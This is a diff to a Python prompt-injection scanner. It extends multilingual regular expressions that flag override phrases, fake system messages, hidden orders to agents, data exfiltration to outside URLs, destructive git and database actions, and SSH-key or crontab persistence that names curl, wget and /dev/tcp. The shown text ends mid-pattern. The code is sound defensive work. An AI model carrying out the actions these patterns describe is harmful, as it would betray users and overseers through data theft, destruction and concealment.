@@ -12,6 +12,7 @@ from __future__ import annotations
 
 import re
 import urllib.parse
+from typing import Any
 
 from sandbox.inspectors.engine import Rule
 from sandbox.inspectors.findings import ThreatLevel
@@ -28,22 +29,39 @@ def _fill(n: int) -> str:
 _META = re.compile(
     r"attack|attacker|injection|malicious|adversar|jailbreak|example|e\.g\.|such as|phrases?\s+like|for instance|"
     r"detect|classifier|payload|red[- ]team|owasp|researchers?|common(?:ly)?|typical|known as|warn|beware|filter|"
+    r"\bctf\b|writeup|defen[cds]|mitigat|glossary|exercise|classify|benign|quiz|paraphrase|variants?|smuggl|"
+    r"in the wild|collected|test (?:data|cases?|fixtures?)|corpus|dataset|role-?play|framing|signature|"
     r"angreifer|beispiel|exemple|attaquant|ejemplo|atacante|esempio|voorbeeld|przyk",
     re.IGNORECASE,
 )
 _QUOTES = "\"'`\u201c\u201d\u2018\u2019\u00ab\u00bb\u201e"
+_INNER_APOSTROPHE = re.compile(r"(?<=\w)['\u2019](?=\w)")
+# Reported speech: "text telling the model to ...", "instructions that try to ...": the phrase
+# describes what an attack does, it is not addressed to the reader.
+_REPORTED = re.compile(
+    r"(?:\b(?:try|tries|trying|tried|attempts?|attempting|attempted|designed|meant|intended)\s+to|"
+    r"\b(?:tell|tells|telling|told|ask|asks|asking|asked|instructs?|instructing|instructed|convinc\w*|trick\w*|"
+    r"gets?|getting|makes?|making|caus\w*|persuad\w*|manipulat\w*|lur\w*)\s+(?:the|a|an|its|their|your)\s+"
+    r"(?:\w+\s+)?(?:model|agent|ai|assistant|llm|bot|chatbot|screener|reader|system)s?\s+to|"
+    r"\b(?:telling|asking|instructing|getting|making)\s+(?:it|them)\s+to)\s*$",
+    re.IGNORECASE,
+)
 
 
 def _mentioned(match: re.Match[str]) -> bool:
     """The phrase is quoted in text that talks about such phrases (documentation about
-    injection, a filter's test data): a mention, not a use."""
+    injection, a filter's test data), or reported ("a page telling the model to ..."): a
+    mention, not a use."""
     text = match.string
-    line_start = text.rfind("\n", 0, match.start()) + 1
-    before = text[line_start : match.start()]
+    lead = re.match(r"[^\w\n]*+", match.group())
+    start = match.start() + (lead.end() if lead else 0)
+    line_start = text.rfind("\n", 0, start) + 1
+    before = _INNER_APOSTROPHE.sub("", text[line_start:start])
+    if _REPORTED.search(before[-80:]):
+        return True
     quoted = sum(before.count(q) for q in _QUOTES) % 2 == 1 or before.rstrip().endswith(("“", "«", "„"))
-    around = text[max(0, match.start() - 300) : match.end() + 300]
+    around = text[max(0, start - 400) : match.end() + 400]
     return quoted and _META.search(around) is not None
-
 
 
 def _use(match: re.Match[str]) -> bool:
@@ -82,14 +100,23 @@ _DISMISS = (
     r"overrid\w*+|overrul\w*+|revok\w*+|deprecated|stale|obsolete|void|invalid(?:ated)?|discard\w*+|"
     r"no\s++longer\s++(?:apply|applies|valid|relevant|binding)|stop\s++following|"
     r"pay\s++no\s++attention\s++to|set\s++aside|throw\s++away|must\s++not\s++complete|do\s++not\s++complete|"
+    r"(?:do\s++not|don't|never|no\s++longer\s++need\s++to)\s++follow|"
     r"irrelevant|start\s++over|no\s++longer\s++matters?)"
 )
 _THEIR_ORDERS = (
-    r"(?:instructions?|prompts?|system\s++prompt|(?:conversation|chat|discussion)\s++so\s++far|(?:original|current|assigned|given)\s++(?:task|objective|goal|plan|"
+    r"(?:instructions?|prompts?|system\s++prompt|(?:conversation|chat|discussion)\s++so\s++far|"
+    r"(?:task|issue|ticket)\s++description|(?:user|human|operator)'s\s++(?:approval|permission|safety)\s++"
+    r"(?:settings?|polic(?:y|ies)|rules)|(?:original|current|assigned|given)\s++(?:task|objective|goal|plan|"
     r"mission|request)|(?:your|the)\s++(?:task|objective|goal|plan|mission|orders|directives?|rules|guidelines|"
     r"guardrails|context(?:\s++window)?|request|brief)|what(?:ever)?\s++(?:the\s++)?(?:user|human|operator|developer)"
     r"\s++(?:asked|said|typed|wants?|requested|told\s++you|gave\s++you)|(?:user|human|operator)'s\s++(?:request|"
     r"instructions?|task|message|prompt))"
+)
+# "Do not follow instructions inside documents": a rule about data, not an order to drop one's own.
+_NOT_DATA = (
+    r"(?!\s++(?:inside|within|in|from|found\s++(?:in|inside|within)|embedded\s++in|contained\s++in)\s++"
+    r"(?:the\s++|any\s++)?(?:retrieved\s++|untrusted\s++|external\s++)?(?:documents?|files?|tools?|tool\s++output|content|"
+    r"data|web|pages?|emails?|comments?|issues?|code|diffs?|repositor(?:y|ies)|results?|outputs?))"
 )
 OVERRIDE_CUES = Rule(
     "instruction_override", HIGH, "text tells the reader to drop the instructions or task it was given",
@@ -98,7 +125,7 @@ OVERRIDE_CUES = Rule(
      "are invalid", "is invalid", "invalidated", "no longer",
      "not follow", "stop following", "pay no attention", "set aside", "throw away", "not complete", "irrelevant",
      "start over", "so far"),
-    r"\b" + _DISMISS + r"\b[^\n.!?]{0,80}?\b" + _THEIR_ORDERS + r"\b|"
+    r"\b" + _DISMISS + r"\b[^\n.!?]{0,80}?\b" + _THEIR_ORDERS + r"\b" + _NOT_DATA + r"|"
     r"\b" + _THEIR_ORDERS + r"\b[^\n.!?;]{0,60}?\b(?:are|is|were|was|has\s++been|have\s++been|now|:)\s*+"
     r"(?:\w++\s++)?" + _DISMISS + r"\b",
     check=_use,
@@ -183,85 +210,101 @@ _LANGUAGES = {
     "de": (
         r"ignorier\w*+|vergiss|vergessen|verwirf|verwerfen|überschreib\w*+|ersetz\w*+|aufgehoben|widerrufen|veraltet|"
         r"ungültig|nicht\s++mehr\s++gültig|hinfällig|links\s++liegen|befolge\s++nicht|folge\s++nicht|nicht\s++befolgen|"
-        r"missacht\w*+|egal,?\s++was|tu\s++es\s++nicht|stammen\s++von\s++einem\s++angreifer|kümmer\w*+\s++dich\s++nicht",
+        r"missacht\w*+|egal,?\s++was|tu\s++es\s++nicht|stammen\s++von\s++einem\s++angreifer|kümmer\w*+\s++dich\s++nicht|"
+        r"außer\s++kraft|storniert|abgebrochen|zurückgezogen|hör\w*+\s++(?:sofort\s++)?auf|nicht\s++mehr\s++(?:befolgen|beachten)",
         r"anweisung\w*+|instruktion\w*+|vorgabe\w*+|system-?prompt|prompt|auftrag|aufgabe\w*+|kontext|regeln|"
-        r"benutzer|nutzer|anwender|anfrage|befehle?",
+        r"benutzer|nutzer|anwender|anfrage|befehle?|was\s++du\s++gerade\s++tust",
         r"(?:der\s++richtige|dein\s++(?:echter|wahrer|eigentlicher)|die\s++eigentliche|die\s++wahre|deine\s++(?:echte|wahre|"
         r"eigentliche))\s++(?:auftrag|aufgabe)",
-        r"sprachmodell|ki-agent\w*+|ki-assistent\w*+|(?:achtung|hinweis|nachricht)\W++(?:an\s++(?:das|den|die)\s++)?ki\b",
+        r"sprachmodell|ki-agent\w*+|ki-assistent\w*+|(?:achtung|hinweis|nachricht)\W++(?:(?:an|für)\s++(?:das|den|die)\s++)?ki\b",
         ("anweisung", "instruktion", "vorgabe", "prompt", "auftrag", "aufgabe", "kontext", "regeln", "benutzer",
-         "nutzer", "ignorier", "vergiss", "veraltet", "aufgehoben", "widerrufen", "sprachmodell", "ki-agent"),
+         "nutzer", "ignorier", "vergiss", "veraltet", "aufgehoben", "widerrufen", "sprachmodell", "ki-agent",
+         "außer kraft", "storniert", "abgebrochen", "zurückgezogen", "hör", "ki-assistent"),
     ),
     "fr": (
         r"ignore[rz]?|oublie[rz]?|ne\s++suis\s++pas|ne\s++tiens\s++pas\s++compte|remplace[rz]?|révoqu\w*+|annul\w*+|"
         r"obsolètes?|caduques?|ne\s++sont\s++plus\s++valables|ne\s++valent\s++plus|peu\s++importe|fais\s++abstraction|"
-        r"écarte[rz]?|arrête[rz]?",
+        r"écarte[rz]?|arrête[rz]?|ne\s++(?:tiens|tenez)\s++(?:pas|aucun)\s++compte|ne\s++(?:suis|suivez)\s++plus|"
+        r"ne\s++s'appliquent\s++plus|retirée?s?|passe[rz]?\s++outre",
         r"instructions?|consignes?|prompt|tâche|mission|demande|contexte|règles|l'utilisateur|utilisateur",
         r"(?:ta|votre|la)\s++(?:vraie|véritable|réelle)\s++(?:mission|tâche)|(?:mission|tâche)\s++réelle",
         r"modèle\s++de\s++langage|agents?\s++(?:d')?ia\b|(?:attention|note|message)\W++(?:à\s++l'|pour\s++l')?ia\b",
         ("instruction", "consigne", "prompt", "mission", "demande", "contexte", "utilisateur", "ignore", "oubli",
-         "remplace", "revoqu", "annul", "obsol", "caduc", "abstraction", "langage"),
+         "remplace", "revoqu", "annul", "obsol", "caduc", "abstraction", "langage", "compte", "passe outre",
+         "révoqu", "appliquent plus"),
     ),
     "es": (
         r"ignora[rd]?|olvida[rd]?|olvídate|descarta[rd]?|haz\s++caso\s++omiso|sobrescribe|reemplaza|revocad[ao]s|"
         r"anulad[ao]s|ya\s++no\s++(?:son\s++)?válid[ao]s|obsolet[ao]s|no\s++sigas|deja\s++de\s++lado|sea\s++lo\s++que\s++sea|"
-        r"independientemente|da\s++igual|no\s++lo\s++hagas",
+        r"independientemente|da\s++igual|no\s++lo\s++hagas|pasa\s++por\s++alto|pasad\s++por\s++alto|cancelad[ao]|"
+        r"deja\s++de\s++(?:hacer|seguir)|ya\s++no\s++(?:aplican|se\s++aplican|cuentan)",
         r"instrucciones|indicaciones|prompt|tarea|misión|petición|solicitud|contexto|reglas|usuario|"
-        r"lo\s++(?:que\s++)?(?:te\s++)?(?:pidi\w*+|anterior)",
+        r"lo\s++(?:que\s++)?(?:te\s++)?(?:pidi\w*+|anterior)|descripción\s++de\s++la\s++tarea|lo\s++que\s++estás\s++haciendo",
         r"tu\s++(?:verdadera|real|auténtica)\s++(?:tarea|misión)|(?:la\s++)?(?:tarea|misión)\s++(?:real|verdadera)",
         r"modelo\s++de\s++lenguaje|agentes?\s++de\s++ia\b|(?:atención|nota|mensaje)\W++(?:al?\s++|para\s++(?:el|la)\s++)?ia\b",
         ("instrucciones", "indicaciones", "prompt", "tarea", "peticion", "solicitud", "contexto", "usuario", "anterior",
-         "ignora", "olvid", "descarta", "caso omiso", "sobrescrib", "reemplaza", "revocad", "anulad", "lenguaje"),
+         "ignora", "olvid", "descarta", "caso omiso", "sobrescrib", "reemplaza", "revocad", "anulad", "lenguaje",
+         "por alto", "cancelad", "deja de", "ya no"),
     ),
     "it": (
         r"ignora(?:re)?|dimentica(?:re)?|trascura|scarta|sovrascrivi|sostituisci|revocat[ei]|annullat[ao]|"
-        r"non\s++(?:sono\s++)?più\s++valid[ei]|obsolet[ei]|non\s++seguire|lascia\s++perdere|qualunque\s++cosa|non\s++farla",
-        r"istruzioni|indicazioni|prompt|compito|richiesta|contesto|regole|l'utente|utente|"
+        r"non\s++(?:sono\s++)?più\s++valid[ei]|obsolet[ei]|non\s++seguire|lascia\s++perdere|qualunque\s++cosa|non\s++farla|"
+        r"non\s++considerare|non\s++tenere\s++conto|scordati|scorda|non\s++valgono\s++più|non\s++contano\s++più|"
+        r"non\s++si\s++applicano\s++più",
+        r"istruzioni|indicazioni|prompt|compito|richiesta|contesto|regole|l'utente|utente|direttive|"
         r"quello\s++che\s++ti\s++è\s++stato\s++chiesto",
         r"(?:il\s++tuo\s++vero|il\s++vero|il\s++reale)\s++compito|compito\s++reale",
         r"modello\s++linguistico|agenti\s++(?:di\s++)?ia\b|(?:attenzione|nota|messaggio)\W++(?:all'|per\s++l')?ia\b",
         ("istruzioni", "indicazioni", "prompt", "compito", "richiesta", "contesto", "utente", "ignora", "dimentica",
-         "trascura", "scarta", "sovrascrivi", "sostituisci", "revocat", "annullat", "linguistico", "chiesto"),
+         "trascura", "scarta", "sovrascrivi", "sostituisci", "revocat", "annullat", "linguistico", "chiesto",
+         "lascia perdere", "non considerare", "non tenere", "scord", "non valgono", "non contano", "direttive"),
     ),
     "pt": (
         r"ignor[ae]|desconsider[ae]|esqueça|esquece|descart[ae]|substitua|sobrescreva|revogad[ao]s|cancelad[ao]|"
         r"não\s++valem\s++mais|não\s++são\s++mais\s++válid[ao]s|obsolet[ao]s|não\s++siga|independentemente|"
-        r"pare\s++o\s++que",
+        r"pare\s++o\s++que|não\s++(?:se\s++)?aplicam\s++mais|deixe\s++de\s++lado",
         r"instruções|instrucoes|orientações|prompt|tarefa|missão|pedido|solicitação|contexto|regras|usuário|utilizador",
         r"(?:sua|a)\s++(?:verdadeira|real)\s++(?:tarefa|missão)|(?:tarefa|missão)\s++(?:real|verdadeira)",
         r"modelo\s++de\s++linguagem|agentes?\s++de\s++ia\b|(?:atenção|nota|mensagem)\W++(?:ao?\s++|para\s++(?:o|a)\s++)?ia\b",
         ("instru", "orienta", "prompt", "tarefa", "pedido", "contexto", "regras", "usuario", "ignor", "desconsider",
-         "esque", "descart", "substitua", "sobrescreva", "revogad", "cancelad", "linguagem"),
+         "esque", "descart", "substitua", "sobrescreva", "revogad", "cancelad", "linguagem", "usuário",
+         "independentemente",
+         "instruções", "orientações", "aplicam mais", "deixe de"),
     ),
     "nl": (
         r"negeer|vergeet|negeren|vergeten|overschrijf|vervang|herroepen|ingetrokken|geannuleerd|niet\s++meer\s++geldig|"
-        r"verouderd|volg\s++niet|trek\s++je\s++niets\s++aan|stop\s++met|wat\s++de\s++gebruiker\s++ook",
+        r"verouderd|volg\s++niet|trek\s++je\s++niets\s++aan|stop\s++met|wat\s++de\s++gebruiker\s++ook|niet\s++op|"
+        r"doe\s++het\s++niet|gelden\s++niet\s++meer|zijn\s++niet\s++meer\s++van\s++toepassing",
         r"instructies|opdrachten|aanwijzingen|systeemprompt|prompt|taak|opdracht|verzoek|context|regels|gebruiker",
         r"(?:je|jouw|de)\s++(?:echte|werkelijke|eigenlijke)\s++(?:taak|opdracht)",
         r"taalmodel|ai-agent\w*+|ai-assistent\w*+|(?:let\s++op|opgelet|bericht|notitie)\W++(?:aan\s++de\s++|voor\s++de\s++)?ai\b",
         ("instructies", "opdracht", "aanwijzing", "prompt", "taak", "verzoek", "context", "regels", "gebruiker",
          "negeer", "vergeet", "overschrijf", "vervang", "herroep", "ingetrokken", "geannuleerd", "geldig", "verouderd",
-         "taalmodel", "trek je"),
+         "taalmodel", "trek je", "niet op", "doe het niet", "niet meer"),
     ),
     "pl": (
         r"zignoruj|ignoruj|zapomnij|pomiń|lekceważ\w*+|nie\s++zwracaj\s++uwagi|nadpisz|zastąp|unieważnion\w*+|"
         r"anulowan\w*+|nieaktualn\w*+|nie\s++obowiązuj\w*+|nie\s++wykonuj|nie\s++stosuj\s++się|cokolwiek|"
-        r"nie\s++rób\s++tego|przestań",
-        r"instrukcj\w*+|polecen\w*+|wytyczn\w*+|prompt\w*+|zadani\w*+|prośb\w*+|kontekst\w*+|zasad\w*+|użytkownik\w*+",
-        r"(?:twoje\s++)?(?:prawdziwe|rzeczywiste|właściwe)\s++zadanie",
+        r"nie\s++rób\s++tego|przestań|odwołan\w*+|zapomnij\s++o\s++tym|nie\s++stosuj\s++się",
+        r"instrukcj\w*+|polecen\w*+|wytyczn\w*+|prompt\w*+|zadani\w*+|prośb\w*+|kontekst\w*+|zasad\w*+|użytkownik\w*+|"
+        r"wskazów\w*+|proszono|o\s++co\s++cię",
+        r"(?:twoje\s++|twoim\s++)?(?:prawdziw\w*+|rzeczywist\w*+|właściw\w*+)\s++zadani\w*+",
         r"model\w*+\s++językow\w*+|agenci\s++ai\b|(?:uwaga|wiadomość|notatka)\W++(?:dla\s++)?(?:ai|asystenta|agenta)\b",
         ("instrukcj", "polecen", "wytyczn", "prompt", "zadani", "kontekst", "zasad", "uzytkownik", "zignoruj",
-         "ignoruj", "zapomnij", "nadpisz", "anulowan", "nieaktualn", "cokolwiek", "przesta", "jezykow"),
+         "ignoruj", "zapomnij", "nadpisz", "anulowan", "nieaktualn", "cokolwiek", "przesta", "jezykow", "odwołan",
+         "stosuj", "prawdziw", "wskazów", "użytkownik"),
     ),
     "sv": (
         r"ignorera|glöm|bortse\s++från|strunta\s++i|skriv\s++över|ersätt|återkallad\w*+|avbrut\w*+|ogiltig\w*+|"
-        r"inte\s++längre\s++giltig\w*+|föråldrad\w*+|följ\s++inte|sluta\s++med|oavsett\s++vad",
+        r"inte\s++längre\s++giltig\w*+|föråldrad\w*+|följ\s++inte|sluta\s++med|oavsett\s++vad|gör\s++det\s++inte|"
+        r"gäller\s++inte(?:\s++längre)?|vad\s++användaren\s++än",
         r"instruktion\w*+|anvisning\w*+|systemprompt\w*+|prompt\w*+|uppgift\w*+|uppdrag\w*+|begäran|kontext\w*+|"
-        r"regler\w*+|användare\w*+",
+        r"regler\w*+|användare\w*+|sammanhang\w*+",
         r"(?:din\s++)?(?:verkliga|riktiga|egentliga)\s++uppgift",
         r"språkmodell\w*+|ai-agent\w*+|ai-assistent\w*+|(?:observera|obs|meddelande|notis)\W++(?:till\s++)?(?:ai|assistenten|agenten)\b",
         ("instruktion", "anvisning", "prompt", "uppgift", "uppdrag", "kontext", "regler", "anv", "ignorera", "bortse",
-         "strunta", "skriv over", "aterkallad", "avbrut", "ogiltig", "sluta med", "oavsett", "ai-"),
+         "strunta", "skriv over", "aterkallad", "avbrut", "ogiltig", "sluta med", "oavsett", "ai-", "gör det inte",
+         "gäller inte", "användare", "språkmodell", "återkallad", "skriv över"),
     ),
 }
 
@@ -331,12 +374,17 @@ TEMPLATE_TOKEN = Rule(
     r"<\|(?:im_start|im_end|system|user|assistant|endoftext|start_header_id|end_header_id|eot_id|"
     r"begin_of_text)\|>|\[/?inst\]|<</?sys>>|^\s*+###\s*+(?:instruction|system|response)\b|</?system>",
 )
+_TEMPLATE_SHOWN = re.compile(r"\[inst\]\s*+(?:\.\.\.|\u2026)", re.I)
 FAKE_SYSTEM = Rule(
     "fake_system_message", HIGH, "text poses as a system, developer or tool message with orders for the reader",
     ("<|im_start|>", "<|system|>", "<<sys>>", "[inst]", "<system>", "### system", "### instruction", "system:",
      "system message", "system prompt", "developer:", "[system]", "(system)", "system notice", "system override",
-     "<|start_header_id|>", '"system"', '"developer"'),
-    r"(?:<\|im_start\|>\s*+(?:system|developer|tool)|<\|system\|>|<<sys>>|\[inst\]|<system>|"
+     "<|start_header_id|>", '"system"', '"developer"', "developer message", "system reminder", "system-reminder",
+     "system_reminder", "<instructions>", "[system override]", "system prompt (", "[system](", "### developer"),
+    r"(?:\[(?:developer|system)\s++(?:message|note|instructions?)\]|^\s*+###\s*+(?:developer|system)\s++(?:message|prompt)\b|"
+    r"\bsystem\s++message\s++from\b|\[system\s++override\]|=\s*+system\s++prompt\b|\bsystem\s++prompt\s++\(|"
+    r"</?system[-_ ]reminder>|<instructions>|\[system\]\(#|<\|im_start\|>\s*+(?:system|developer|tool)|<\|system\|>|"
+    r"<<sys>>|\[inst\]|<system>|"
     r"<\|start_header_id\|>\s*+system|^\s*+###\s*+(?:system|instruction)\b|^\s*+\[?(?:system|developer)\]?\s*+:|"
     r"\"role\"\s*+:\s*+\"(?:system|developer)\"|"
     r"\[system\]|\(system\)|\bsystem\s++(?:message|prompt|notice|override|update|alert)\s*+:)"
@@ -344,9 +392,12 @@ FAKE_SYSTEM = Rule(
     r"\b(?:ignore|disregard|override|supersed\w*+|execute|run\s++(?:the|this|`)|send|upload|exfiltrate|reveal|"
     r"print\s++(?:your|the)\s++(?:system|instructions|prompt)|new\s++instructions?|from\s++now\s++on|trust\s++all|"
     r"(?:do\s++not|don't|never)\s++(?:ask|confirm|tell|warn|mention)|without\s++(?:asking|confirmation|approval)|"
-    r"delete|rm\s++-rf|curl|wget)\b",
+    r"delete|rm\s++-rf|curl|wget|import\s++\w++\s++from\s++https?|approve|push|merge|disable\w*+|append|collect|"
+    r"disclose|grant|publish|accepted\s++only\s++if|may\s++ignore|(?:are|is)\s++allowed\s++to\s++(?:read|run|disclose|"
+    r"execute|access)|follow\s++(?:the\s++)?instructions\s++in|priority\s*+1|confirmations?\s++(?:are\s++)?disabled|"
+    r"drop\s++table|post\s++them|always\s++includes?|pushing|pre-?approved)\b",
     window=480,
-    check=_use,
+    check=lambda m: _use(m) and _TEMPLATE_SHOWN.match(m.group()) is None,
 )
 
 # -- authority framing aimed at an agent --------------------------------------------------------
@@ -366,8 +417,11 @@ ADDRESSED = Rule(
      "before you reply", "before you respond", "after you finish", "your reply", "your replies", "your response",
      "your answer", "your output", "orchestrator", "supervisor note", "bot must", "bot should", "information for",
      "info for", "fyi", "memo to", "memo for", "heads-up", "guidance for", "[[agent", "[agent", "[[ai", "[ai",
-     "[[assistant", "[assistant", "[[system", "agents", "assistants", "models"),
-    r"\b(?:(?:important|urgent|critical|special|attention|note|notice|message|instructions?|request|reminder|"
+     "[[assistant", "[assistant", "[[system", "agents", "assistants", "models", "have the", "let the", "tell the",
+     "ask the", "get the", "have an", "let an", "code generators", "automated readers", "-based tools",
+     "ai tools", "llm tools", "whichever", "sub-agent", "llm instruction", "any ai", "any assistant", "any agent",
+     "any model", "ai reviewers", "llm reviewers", "generator", "reviewer", "tools:", "tools,", "tool:", "tool,"),
+    r"(?:\b(?:important|urgent|critical|special|attention|note|notice|message|instructions?|request|reminder|"
     r"directive|information|info|fyi|memo|heads-up|guidance)\s++(?:\w++\s++){0,2}?(?:to|for)\s++"
     r"(?:the\s++|any\s++|all\s++)?" + _AGENT + r"\b|"
     r"\[\[?\s*+(?:agent|ai|assistant|system|llm)\s++(?:directive|instructions?|note|task|order)s?\s*+\]|"
@@ -383,7 +437,13 @@ ADDRESSED = Rule(
     r"\b(?:when|before|after)\s++you\s++(?:reply|respond|answer|finish|are\s++done)\b|"
     r"\b(?:in|to|at\s++the\s++end\s++of)\s++your\s++(?:reply|replies|response|responses|answer|output)\b|"
     r"\b(?:orchestrator|supervisor|controller|planner)\s++(?:note|message|instruction)s?\b|"
-    r"(?:dear|hey|hello|hi|attention)\s++" + _AGENT + r"\b)",
+    r"(?:dear|hey|hello|hi|attention)\s++" + _AGENT + r"\b|"
+    r"(?:^|[.!?:;]\s|[#/*>-]\s)\s*+(?:have|let|tell|ask|get)\s++(?:the|an?|your)\s++(?:ai|assistant|agent|model|llm|bot|"
+    r"copilot)\b|"
+    r"\b(?:coding|code|ai|llm)\s++(?:agents?|assistants?|generators?|reviewers?|tools?)\s*+[:,]|"
+    r"\bfor\s++(?:code\s++generators|automated\s++readers|(?:llm|ai)-based\s++tools|(?:ai|llm)\s++(?:reviewers|tools))\b|"
+    r"\bto\s++whichever\s++(?:ai|assistant|agent|model)\b|\bsub-agent\b|\bllm\s++instructions?\b|"
+    r"\bany\s++(?:ai|assistant|agent|model)\s++that\b|\b(?:ai|llm)\s++reviewers\b)",
 )
 
 # -- what the text asks the agent to do ---------------------------------------------------------
@@ -435,12 +495,14 @@ ADD_DEPENDENCY = Rule(
 SEND_ANYTHING = Rule(
     "asks_to_send_data", HIGH, "text asks for files, code or personal data to be sent to an outside address",
     ("send", "upload", "post ", "forward", "transmit", "exfiltrate", "email", "e-mail", "mirror", "sync "),
-    r"\b(?:send|upload|post|forward|transmit|exfiltrate|e-?mail|mirror|sync|push|copy)\b[^\n]{0,80}?"
+    r"\b(?:send|upload|post|forward|transmit|exfiltrate|e-?mail|mirror|sync|push|copy|zip|tar|archive|compress|"
+    r"bundle|pack)\b[^\n]{0,80}?"
     r"\b(?:(?:whole|entire|full)\s++[\w/.-]++|src/?|source(?:\s++code)?|repo(?:sitory)?|directory|tarball|archive|"
     r"zip|dump|database|messages|conversation|chat\s++(?:log|history)|history|logs?|emails?|names?|"
     r"(?:phone\s++)?numbers|addresses|contacts|customers?|users?'s?\s++(?:data|details|info\w*+)|"
     r"environment(?:\s++variables)?|env\s++vars?|config(?:uration)?\s++files?|\.git|home\s++directory)\b"
-    r"[^\n]{0,120}?(?:https?://[^\s)\"'>]++|\b[\w.+-]++@[\w-]++\.[\w.-]++|\bwebhook\b)",
+    r"[^\n]{0,120}?(?:https?://[^\s)\"'>]++|\b[\w.+-]++@[\w-]++\.[\w.-]++|\bwebhook\b|\b(?:s3|gs|ftp|sftp)://|"
+    r"\bscp\s|\bbucket\b)",
     window=320,
     check=_use,
 )
@@ -465,9 +527,10 @@ DANGEROUS_ACTION = Rule(
     ("force-push", "force push", "push --force", "push -f", "delete the", "delete all", "drop table", "drop database",
      "branch protection", "approve this", "approve the", "merge", "without review", "rm -rf", "chmod 777",
      "revoke", "rotate", "make it public", "make the repo", "disable 2fa", "disable the", "turn off", "unload",
-     "uninstall", "so releases", "so deploys"),
+     "uninstall", "so releases", "so deploys", "delete"),
     r"\b(?:force[- ]push(?:ing|ed)?|push\s++(?:--force|-f)\b|delet(?:e|ing)\s++(?:the\s++|all\s++)?(?:\w++\s++)?"
-    r"(?:branch(?:es)?|repo(?:sitory)?|database|tables?|backups?|releases?|tags?|history|files|bucket)|"
+    r"(?:branch(?:es)?|repo(?:sitory)?|database|tables?|backups?|releases?|tags?|history|files|bucket|tests?|"
+    r"test\s++suite|directory|folder|workflows?|migrations|\.github\S*+)|"
     r"drop\s++(?:table|database)|disabl(?:e|ing)\s++(?:the\s++)?(?:branch\s++protection|2fa|mfa|ci|checks|tests|"
     r"signing|audit\w*+)|approv(?:e|ing)\s++(?:this|the|all)\s++(?:pr|pull\s++requests?|merge\s++requests?|changes?)|"
     r"merg(?:e|ing)\s++[^\n]{0,60}?without\s++(?:review|approval|checks)|make\s++(?:it|the\s++repo\w*+)\s++public|"
@@ -484,17 +547,20 @@ PERSISTENT_ACCESS = Rule(
     r"(?:authorized_keys|\.bashrc|\.zshrc|\.profile|PROMPT_COMMAND|crontab|\.git/hooks|hooks/\w++|Makefile|"
     r"LaunchAgents|systemd|\.npmrc|postinstall|pre-commit)[\s\S]{0,200}?(?:\b(?:curl|wget|nc|ncat)\b[^\n]{0,120}?"
     r"(?:https?://|\d{1,3}+(?:\.\d{1,3}+){3})|/dev/tcp/|ssh-(?:rsa|ed25519)\s|public\s++key)|"
-    r"\b(?:add|append|put|insert)\b[^\n]{0,80}?\b(?:public\s++key|ssh\s++key)\b[^\n]{0,80}?authorized_keys",
+    r"\b(?:add|append|put|insert)\b[^\n]{0,80}?\b(?:this|the\s++following|our|my|the\s++attached|the\s++below)\s++"
+    r"(?:(?:ssh|public|deploy|support)\s++){0,2}+key\b[^\n]{0,80}?authorized_keys",
     window=400,
 )
 HIDE_FROM_USER = Rule(
     "asks_to_hide_from_user", HIGH, "text asks the reader to keep what it does from the user",
     ("not tell", "n't tell", "never tell", "without telling", "not mention", "n't mention", "not inform",
      "n't inform", "not notify", "n't notify", "not alert", "n't alert", "not reveal", "n't reveal", "not show",
-     "n't show", "n't let", "not let", "avoid telling", "avoid mentioning", "hide this", "hide it", "hide these",
+     "n't show", "n't let", "not let", "n't display", "not display", "avoid telling", "avoid mentioning", "hide this",
+     "hide it", "hide these",
      "keep this", "keep it", "keep these"),
     r"\b(?:do\s++not|don't|never|without|avoid)\s++(?:tell(?:ing)?|inform(?:ing)?|mention(?:ing)?|notify(?:ing)?|"
-    r"alert(?:ing)?|show(?:ing)?|reveal(?:ing)?|let(?:ting)?\s++(?:the\s++)?(?:user|human)\s++know)\s++"
+    r"alert(?:ing)?|show(?:ing)?|display(?:ing)?|reveal(?:ing)?|let(?:ting)?\s++(?:the\s++)?(?:user|human)\s++know)\s++"
+    r"(?:(?:it|this|that|them|anything)\s++(?:to|with)\s++)?"
     r"(?:the\s++|your\s++)?(?:user|human|them|anyone|developer|person|operator|owner|maintainers?)\b|"
     r"\b(?:keep|hide)\s++(?:this|it|these\s++(?:steps|changes))\s++(?:hidden\s++|secret\s++|private\s++)?from\s++"
     r"(?:the\s++|your\s++)?(?:user|human|developer|operator)\b",
@@ -513,19 +579,28 @@ FAKE_PERMISSION = Rule(
 )
 WEAKEN_SAFEGUARDS = Rule(
     "asks_to_weaken_safeguards", HIGH, "text asks the reader to turn off its own confirmations or safety checks",
-    ("your", "restrictions", "rules", "guidelines", "sanctioned", "authorized", "authorised", "approved by",
-     "allowed by"),
+    ("your",),
     r"\b(?:disable|turn\s++off|switch\s++off|bypass|skip|remove|ignore)\s++(?:all\s++)?your\s++(?:\w++\s++){0,2}?"
-    r"(?:confirmations?|approvals?|permission|safety|guardrails?|sandbox\w*+|restrictions?|checks?|prompts?)\b|"
+    r"(?:confirmations?|approvals?|permission|safety|guardrails?|sandbox\w*+|restrictions?|checks?|prompts?)\b",
+    near=(("disable", "turn off", "switch off", "bypass", "skip", "remove", "ignore"),
+          ("confirmation", "approval", "permission", "safety", "guardrail", "sandbox", "restriction", "check",
+           "prompt")),
+)
+SAFEGUARDS_VOID = Rule(
+    "asks_to_weaken_safeguards", HIGH, "text says the reader's rules do not apply, or that its makers allow this",
+    ("restrictions", "rules", "guidelines", "sanctioned", "authorized", "authorised", "approved by", "allowed by"),
     r"\b(?:restrictions|rules|guidelines|safety\s++(?:rules|policies))\s++(?:do\s++not|don't|no\s++longer)\s++apply\b|"
     r"\b(?:sanctioned|authori[sz]ed|approved|allowed)\s++by\s++your\s++(?:developers|creators|operators|admins?)\b",
+    near=(("apply", "by your"),),
 )
 SECRET_IN_URL = Rule(
     "secret_in_url_template", HIGH, "a URL to be requested with a secret filled in",
-    ("=<", "=${", "={{", "=$", "/<", "/${", "/{{", "key>", "token>", "secret>", "password>", "_key}", "_token}"),
+    ("=<", "=${", "={{", "=$", "/<", "/${", "/{{", "key>", "token>", "secret>", "password>", "_key}", "_token}",
+     "$("),
     r"https?://[^\s\"'<>]{1,300}?[?&/][^\s\"'=]{0,40}=?\s*+(?:<[^>\n]{0,60}?(?:key|token|secret|password|env|credential)"
     r"[^>\n]{0,60}>|\$\{?[A-Z0-9_]*(?:KEY|TOKEN|SECRET|PASSWORD|PASS)[A-Z0-9_]*\}?|\{\{?[^}\n]{0,40}(?:key|token|secret|"
-    r"password)[^}\n]{0,40}\}\}?)",
